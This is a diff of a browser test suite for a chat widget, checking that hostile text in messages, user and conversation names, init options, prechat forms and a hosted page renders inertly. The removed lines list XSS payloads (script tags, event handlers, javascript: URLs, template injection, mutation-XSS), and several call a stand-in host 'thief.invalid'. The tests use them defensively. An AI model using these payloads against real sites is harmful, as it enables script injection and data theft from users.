@@ -1,28 +1,17 @@
 /** What the chat does to the page of the company: nothing that it did not ask for. And what strangers can do: nothing. */
 import type { Frame } from 'playwright-core';
 import { describe, expect, it } from 'vitest';
-import type { Smooch as SmoochAPI } from '../widget/api.ts';
+import type { InitOptions, Smooch as SmoochAPI } from '../widget/api.ts';
 import { browserSkipped } from './browser.ts';
+import { Hosted } from './hosted.ts';
+import { payloads, thief } from './payloads.ts';
 import { World } from './world.ts';
 import type { Visitor } from './world.ts';
 
 declare const Smooch: SmoochAPI;
 
-/** Where the payloads would send what they stole. World counts any request to it as a fault, as it does violations and dialogs. */
-const thief = 'http://thief.invalid';
-
-const payloads = [
-  `<script>window.ran=1;fetch('${thief}/1')</script>`,
-  `<img src=x onerror="window.ran=1;this.src='${thief}/2'">`,
-  `"><svg onload=window.ran=1><image href="${thief}/3">`,
-  `</textarea></div></title><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
-  `javascript:window.ran=1//%0D%0Ahttps://x.example/%22onclick=%22window.ran=1`,
-  `[click](javascript:window.ran=1) ![x](${thief}/6) <a href="javascript:window.ran=1">x</a>`,
-  `<style>@import '${thief}/7';*{background:url(${thief}/7)}</style><link rel=stylesheet href=${thief}/7>`,
-  `{{constructor.constructor('window.ran=1')()}} \${window.ran=1} <%= window.ran=1 %>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">`,
-  `<form action=${thief}/10><button formaction="javascript:window.ran=1" autofocus onfocus=window.ran=1>x</button></form>\u202e<base href=${thief}>`,
-];
+/** Of one form. */
+const mostFields = 20;
 
 describe.skipIf(browserSkipped())('the page of the company', () => {
   const world = World.begin();
@@ -117,13 +106,15 @@ describe.skipIf(browserSkipped())('hostile texts', () => {
     const bubbles = visitor.log.locator('.bubble');
     await expect.poll(() => bubbles.count()).toBe(payloads.length);
     expect(await bubbles.allInnerTexts()).toEqual(payloads);
-    for (const payload of payloads) {
-      await visitor.composer.fill(payload);
+    // (As one person writes no sixty messages in a few seconds, two go together.)
+    const written = payloads.flatMap((payload, i) => (i % 2 ? [] : [`${payload}\n${payloads[i + 1] ?? ''}`.slice(0, 4096).trim()]));
+    for (const text of written) {
+      await visitor.composer.fill(text);
       await visitor.composer.press('Enter');
     }
     await visitor.settled();
-    expect(await world.rest.texts(id)).toEqual([...payloads, ...payloads]);
-    await expect.poll(() => bubbles.count()).toBe(2 * payloads.length);
+    expect(await world.rest.texts(id)).toEqual([...payloads, ...written]);
+    await expect.poll(() => bubbles.count()).toBe(payloads.length + written.length);
     const links = await visitor.log.locator('a').evaluateAll((all) => all.map((link) => ({ href: (link as HTMLAnchorElement).protocol, rel: link.getAttribute('rel'), target: link.getAttribute('target') })));
     for (const link of links) expect(link).toEqual({ href: expect.stringMatching(/^https?:$/) as string, rel: expect.stringContaining('noopener') as string, target: '_blank' });
     await expectHarmless(visitor);
@@ -132,28 +123,87 @@ describe.skipIf(browserSkipped())('hostile texts', () => {
     await expectHarmless(visitor);
   });
 
-  it.each(payloads.map((payload, i) => [i + 1, payload] as const))('as names everywhere, payload %i, run nothing', async (_, payload) => {
-    const ana = world.newcomer('ana');
-    const name = payload.slice(0, 100);
+  it('of the page and the token that begin the chat name things, and do nothing else', async () => {
     const visitor = await world.visit(world.company.url);
-    const jwt = world.tokenOf(ana, 3600, { name, email: `"${payload}"@x.example` });
-    await visitor.page.evaluate(
-      (options) => Smooch.init(options),
-      { integrationId: world.app.integrationId, externalId: ana, jwt, businessName: payload, businessIconUrl: `javascript:window.ran=1`, customText: { inputPlaceholder: payload, introAppText: payload }, customColors: { brandColor: payload } },
-    );
+    const title = visitor.chat.locator('header h1');
+    for (const payload of payloads) {
+      const name = payload.slice(0, 100);
+      const ana = world.newcomer('ana');
+      const texts = Object.fromEntries(['headerText', 'inputPlaceholder', 'introAppText', 'headerSubtitle', 'sendButtonText', 'greeting', 'open', 'close', 'starterQuestion'].map((key) => [key, payload]));
+      await visitor.page.evaluate((options) => Smooch.init(options as InitOptions), {
+        integrationId: world.app.integrationId,
+        externalId: ana,
+        jwt: world.tokenOf(ana, 3600, { name, email: `"${name}"@x.example` }),
+        businessName: payload,
+        businessIconUrl: name.includes('script:') ? name : 'javascript:window.ran=1',
+        customText: texts,
+        customScreenReaderAnnouncement: texts,
+        customColors: { brandColor: payload, conversationColor: payload, actionColor: payload },
+        locale: name,
+      });
+      await visitor.page.evaluate(() => Smooch.open());
+      await expect.poll(() => title.textContent()).toBe(payload);
+      await expectHarmless(visitor);
+      await visitor.page.evaluate(() => Smooch.destroy());
+    }
+  }, 90_000);
+
+  it('of people, of conversations and of who is writing name things, and do nothing else', async () => {
+    const ana = world.newcomer('ana');
+    const visitor = await world.visitAs(ana);
     await visitor.open();
-    await expectHarmless(visitor);
-    await visitor.page.evaluate((text) => Smooch.updateUser({ givenName: text, surname: text, metadata: { [text]: text } }), name);
-    await visitor.page.evaluate((text) => Smooch.createConversation({ displayName: text, description: text, metadata: { [text]: text } }), name);
-    await visitor.send(payload.trim());
-    const id = (await visitor.conversations())[0]?.id ?? '';
-    await world.rest.call('POST', `/conversations/${id}/activity`, { author: { type: 'business', displayName: name }, type: 'typing:start' });
-    await visitor.chat.getByText('is writing').waitFor({ state: 'attached' });
-    await expectHarmless(visitor);
+    await visitor.send('hello');
+    const [first] = await world.rest.conversationsOf(ana);
+    const id = first?.id ?? '';
+    for (const payload of payloads) {
+      const name = payload.slice(0, 100);
+      await world.rest.call('PATCH', `/users/${ana}`, { profile: { givenName: name, surname: name, avatarUrl: `${thief}/face.png` }, metadata: { note: name } });
+      await world.rest.call('PATCH', `/conversations/${id}`, { displayName: name, description: name, iconUrl: `${thief}/icon.png`, metadata: { note: name, ...(name.length < 30 && { [name]: name }) } });
+      await expect.poll(() => visitor.chat.locator('header h1').textContent()).toBe(name);
+      await world.rest.call('POST', `/conversations/${id}/activity`, { author: { type: 'business', displayName: name, avatarUrl: `${thief}/face.png` }, type: 'typing:start' });
+      await expect.poll(() => visitor.chat.locator('.typing').textContent()).toContain(name);
+      await world.rest.say(id, payload, { displayName: name, avatarUrl: `${thief}/face.png` });
+      await visitor.chat.locator('.typing').waitFor({ state: 'detached' });
+      await expectHarmless(visitor);
+    }
+    await Promise.all(payloads.map((payload) => world.rest.createConversation(ana, { displayName: payload.slice(0, 100), description: payload.slice(0, 100) })));
+    await visitor.page.reload();
+    await visitor.began();
+    await visitor.open();
     await visitor.chat.getByRole('button', { name: 'Back to conversations' }).click();
-    await visitor.chat.getByRole('list', { name: 'Conversations' }).waitFor();
+    const names = visitor.chat.getByRole('list', { name: 'Conversations' }).locator('.name');
+    const more = visitor.chat.getByRole('button', { name: 'Show more' });
+    for (await names.first().waitFor(); await more.count(); ) {
+      const before = await names.count();
+      await more.click();
+      await expect.poll(() => names.count()).toBeGreaterThan(before);
+    }
+    expect(await names.allTextContents()).toEqual(expect.arrayContaining(payloads.map((payload) => payload.slice(0, 100))));
     await expectHarmless(visitor);
-  });
+  }, 90_000);
+
+  it('of the form before a chat, in its questions and its answers, name things, and do nothing else', async () => {
+    for (let from = 0; from < payloads.length; from += mostFields) {
+      const asked = payloads.slice(from, from + mostFields).map((payload) => payload.slice(0, 128));
+      const fields = asked.map((text, i) => ({ name: text, label: text, placeholder: text, ...(i % 2 ? { type: 'text' } : { type: 'select', options: [{ name: text, label: text }] }) }));
+      const visitor = await world.visit(world.company.url);
+      const customText = { prechatCaptureGreetingText: asked[0], prechatCaptureConfirmationText: asked[1] };
+      await visitor.page.evaluate((options) => Smooch.init(options as InitOptions), { integrationId: world.app.integrationId, prechatCapture: { enabled: true, avatarUrl: 'javascript:window.ran=1', fields }, customText });
+      await visitor.launcher.click();
+      const form = visitor.chat.locator('form.form');
+      await form.waitFor();
+      expect(await form.locator('label').allTextContents()).toEqual(asked);
+      await expectHarmless(visitor);
+      for (const [i, field] of (await form.locator('input, select').all()).entries()) {
+        if (i % 2) await field.fill(asked[i] ?? '');
+        else await field.selectOption({ index: 1 });
+      }
+      await form.getByRole('button').click();
+      await visitor.composer.waitFor();
+      await visitor.settled();
+      await expectHarmless(visitor);
+    }
+  }, 60_000);
 
   it('of other windows are not heard: neither page nor frame takes orders from strangers', async () => {
     const visitor = await world.visitAs(world.newcomer('ana'));
@@ -178,4 +228,24 @@ describe.skipIf(browserSkipped())('hostile texts', () => {
     expect(await visitor.user()).toEqual(before);
     expect((await visitor.heard('unreadCount')).filter(({ args }) => args[0] === 7)).toEqual([]);
   });
+});
+
+describe.skipIf(browserSkipped())('hostile names on the hosted page', () => {
+  const hosted = Hosted.begin();
+
+  it('of apps and of people stand in title, heading and bar as they were written', async () => {
+    const browser = await hosted.newBrowser();
+    // (Names of apps hold what can be printed only.)
+    const names = payloads.map((payload) => payload.slice(0, 100).replaceAll(/[\p{Cc}\p{Cf}]/gu, ' ').trim());
+    for (let i = 0; i < names.length; i += 2) {
+      const [called = '', name = 'Ana'] = names.slice(i, i + 2);
+      const app = await hosted.newApp(called);
+      const visit = await hosted.visitAs({ ...hosted.newcomer('Ana'), name }, app, browser);
+      expect(await visit.person.textContent()).toBe(name);
+      expect(await visit.page.title()).toContain(called.replaceAll(/\s+/g, ' '));
+      expect(await visit.page.evaluate(() => ['ran' in window, document.querySelectorAll('body script, #app style, iframe, base, [onerror], [onload], [onfocus], math').length])).toEqual([false, 0]);
+      await visit.page.close();
+      await browser.clearCookies();
+    }
+  }, 90_000);
 });
